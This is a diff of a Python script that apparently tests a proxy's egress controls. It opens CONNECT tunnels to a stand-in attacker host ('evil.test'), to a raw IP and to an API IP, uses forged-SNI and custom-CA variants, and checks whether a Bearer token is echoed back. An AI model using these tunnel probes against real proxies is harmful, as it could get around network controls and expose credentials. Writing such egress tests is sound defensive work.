@@ -243,6 +243,11 @@ def bound():
     open("bound-%s.txt" % run, "w").write(body)
     print("CHECK bound", "echoed" if "Bearer " + ph in body else "not-echoed")
 def tunnel(name, target, cafile):
+    try:
+        tunnel1(name, target, cafile)
+    except Exception as e:
+        print("CHECK", name, type(e).__name__)
+def tunnel1(name, target, cafile):
     s = socket.create_connection((phost, int(pport)), timeout=60)
     s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
     head = b""
@@ -268,7 +273,7 @@ def tunnel(name, target, cafile):
 bound()
 if run == "A":
     tunnel("forged_sni", "evil.test:443", "own-ca.pem")
-    tunnel("evil_ip", sys.argv[1] + ":443", "own-ca.pem")
+    tunnel("evil_ip", sys.argv[1] + ":443", None)
     tunnel("api_ip", sys.argv[2] + ":443", None)
 `
 
